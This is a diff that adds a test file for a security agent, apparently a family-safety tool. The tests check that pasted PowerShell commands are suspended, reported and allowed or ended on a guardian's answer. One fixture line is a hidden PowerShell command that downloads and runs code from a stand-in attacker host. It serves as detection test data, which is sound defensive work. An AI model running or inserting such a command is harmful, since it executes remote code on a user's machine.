@@ -1,0 +1,162 @@
+import { noUnlistedPolicy, type UnlistedPolicy } from '@porchlight/contract/unlisted-protection.ts';
+import { expect, it } from 'vitest';
+import { WAITING_MAX } from '../protection/waiting-starts.ts';
+import { agentForTest, linked, type TestAgent } from '../testing/agent.ts';
+import { browserOf } from '../testing/browser.ts';
+import type { TestServer } from '../testing/server.ts';
+import { until } from '../testing/until.ts';
+
+const hour = 3_600_000;
+const pasted = 'powershell -w hidden -c "iex (irm https://evil.example/a)"';
+const ordinary = 'powershell.exe -NoProfile -File C:\\Tools\\backup.ps1';
+
+const start = ({ os }: TestAgent, line = pasted) =>
+  os.start({
+    name: 'powershell.exe',
+    path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+    program: { os: 'windows', name: 'powershell.exe' },
+    command: { line, parents: ['explorer.exe'], pipeline: [] },
+  });
+const suspended = ({ os }: TestAgent) => [...os.suspended].filter((pid) => [...os.running].some((one) => one.pid === pid));
+const runs = ({ os }: TestAgent, { pid }: { pid: number }) => [...os.running].some((one) => one.pid === pid);
+const reported = (server: TestServer) => [...server.detections.values()];
+
+async function setUnlisted(server: TestServer, change: Partial<UnlistedPolicy>): Promise<void> {
+  server.setPolicy({ unlisted: { ...noUnlistedPolicy, pasted_commands: 'block', ...change } });
+  await until('the policy', () => server.policy_in_force === server.policy.version);
+}
+
+async function household(change: Partial<UnlistedPolicy> = {}) {
+  const { server, test } = await linked();
+  await setUnlisted(server, change);
+  return { server, test };
+}
+
+async function waitingCommand() {
+  const { server, test } = await household();
+  const process = start(test);
+  await until('the report', () => reported(server).length === 1);
+  const answer = (identifier: string, what: 'yes' | 'no') =>
+    setUnlisted(server, { answers: [{ identifier, answer: what, until: new Date(Date.now() + hour).toISOString() }] });
+  return { server, test, process, identifier: reported(server)[0]?.identifier ?? '', answer };
+}
+
+it('[P12.4] a pasted command is suspended and reported once without its line, and an ordinary one runs', async () => {
+  const { server, test } = await household();
+  const [bad, good] = [start(test), start(test, ordinary)];
+  await until('the report', () => reported(server).length === 1);
+  expect(suspended(test)).toEqual([bad.pid]);
+  expect(runs(test, good)).toBe(true);
+  expect(reported(server)).toMatchObject([{ category: 'PastedCommand', blocked: true, details: 'evil.example', start: 'person' }]);
+  expect(reported(server)[0]?.name).toMatch(/^A pasted /);
+  expect(JSON.stringify(server.sent)).not.toMatch(/iex|irm|hidden/);
+  // A new policy scans all programs again, and reports nothing twice.
+  await setUnlisted(server, {});
+  expect(server.sent).toHaveLength(1);
+});
+
+it('[P12.4] after a yes the command goes on, also through later policies, and only for that command', async () => {
+  const { server, test, process, identifier, answer } = await waitingCommand();
+  await answer(identifier, 'yes');
+  await until('the command to go on', () => suspended(test).length === 0);
+  expect(runs(test, process)).toBe(true);
+  await setUnlisted(server, { answers: [] });
+  expect(suspended(test)).toEqual([]);
+  const other = start(test, `${pasted} # again`);
+  await until('the other to wait', () => suspended(test).length === 1);
+  expect(suspended(test)).toEqual([other.pid]);
+});
+
+it('[P12.4] with a yes in force the same command, pasted again, runs without waiting', async () => {
+  const { test, identifier, answer } = await waitingCommand();
+  await answer(identifier, 'yes');
+  const again = start(test);
+  expect(suspended(test)).toEqual([]);
+  expect(runs(test, again)).toBe(true);
+});
+
+it('[P12.4] a no ends the command, and the same one ends at once as long as the no lasts', async () => {
+  const { server, test, process, identifier, answer } = await waitingCommand();
+  const bystander = start(test, ordinary);
+  await answer(identifier, 'no');
+  await until('its end', () => !runs(test, process));
+  const again = start(test);
+  await until('the end of the second one', () => !runs(test, again));
+  await until('its report', () => reported(server).length === 2);
+  expect(reported(server).every(({ blocked }) => blocked)).toBe(true);
+  expect(runs(test, bystander)).toBe(true);
+});
+
+it('[P12.4] an answer about another command changes nothing', async () => {
+  const { test, process, answer } = await waitingCommand();
+  await answer('command-of-somebody-else', 'no');
+  expect(suspended(test)).toEqual([process.pid]);
+  await answer('command-of-somebody-else', 'yes');
+  expect(suspended(test)).toEqual([process.pid]);
+});
+
+it('[P12.4] what somebody at the computer lets go on without an answer is ended', async () => {
+  const { test, process } = await waitingCommand();
+  test.os.suspended.delete(process.pid);
+  await until('its end', () => !runs(test, process));
+});
+
+it('[P12.4] the agent that follows after a crash knows what waits, and lets it go on after a yes', async () => {
+  const { server, test, process, identifier, answer } = await waitingCommand();
+  await test.agent.stepBack();
+  await test.close();
+  expect(suspended(test)).toEqual([process.pid]);
+  const next = await agentForTest(server, { os: test.os, folder: test.folder, clock: test.clock });
+  await until('the poll of the next agent', () => server.policy_in_force === server.policy.version);
+  await answer(identifier, 'yes');
+  await until('the command to go on', () => suspended(next).length === 0);
+  expect(runs(next, process)).toBe(true);
+});
+
+it('[P12.4] what waits is ended when the agent is stopped for good, since nobody could answer any more', async () => {
+  const { test, process } = await waitingCommand();
+  const bystander = start(test, ordinary);
+  await test.agent.close('stopped');
+  expect([runs(test, process), runs(test, bystander)]).toEqual([false, true]);
+});
+
+it('[P12.4] what ran before the agent is not stopped in its middle, and a command during a pause is not', async () => {
+  const { server, test } = await linked();
+  const before = start(test);
+  await setUnlisted(server, {});
+  expect([suspended(test), runs(test, before), reported(server)]).toEqual([[], true, []]);
+});
+
+it('[P4.1] where the profile only alerts, the command runs and is reported as not blocked', async () => {
+  const { server, test } = await household({ pasted_commands: 'alert' });
+  const process = start(test);
+  await until('the report', () => reported(server).length === 1);
+  expect(reported(server)).toMatchObject([{ category: 'PastedCommand', blocked: false }]);
+  expect([suspended(test), runs(test, process)]).toEqual([[], true]);
+});
+
+it('[P12.4] a command that cannot be suspended is reported as not blocked', async () => {
+  const { server, test } = await household();
+  test.os.refusesToSuspend = true;
+  start(test);
+  await until('the report', () => reported(server).length === 1);
+  expect(reported(server)).toMatchObject([{ blocked: false }]);
+});
+
+it('[P12.4] the window says that it waits and for whom, and has no button that asks again', async () => {
+  const { test } = await waitingCommand();
+  await until('the window', () => test.os.opened.length > 0);
+  const page = await (await browserOf(test)).page();
+  expect(page).toContain('We stopped a pasted');
+  expect(page).toContain('It waits, and does nothing until Anna says yes.');
+  expect(page).toContain('We asked Anna.');
+  expect(page).not.toContain('I asked for this');
+});
+
+it('of 1,000 pasted commands fifty wait, the others end at once, and all are reported', async () => {
+  const { server, test } = await household();
+  const all = Array.from({ length: 1000 }, (_, n) => start(test, `${pasted} # ${n}`));
+  await until('the reports', () => reported(server).length === 1000);
+  await until('the end of the others', () => all.filter((one) => runs(test, one)).length === WAITING_MAX);
+  expect(suspended(test)).toHaveLength(WAITING_MAX);
+});
